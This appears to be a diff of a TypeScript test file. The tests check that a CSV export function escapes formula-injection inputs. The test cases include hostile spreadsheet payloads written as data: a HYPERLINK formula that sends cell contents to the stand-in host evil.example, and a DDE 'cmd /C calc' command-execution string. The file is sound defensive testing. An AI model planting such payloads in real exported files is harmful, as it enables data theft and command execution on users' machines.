@@ -12,7 +12,7 @@ const cases: Array<[string | number | null, string]> = [
   [null, ''],
   ['=1+1', `"'=1+1"`],
   ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
-  ['+cmd|\' /C calc\'!A0', `"'+cmd|' /C calc'!A0"`],
+  ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
   ['-2+3', `"'-2+3"`],
   ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
   ['\t=1', `"'\t=1"`],
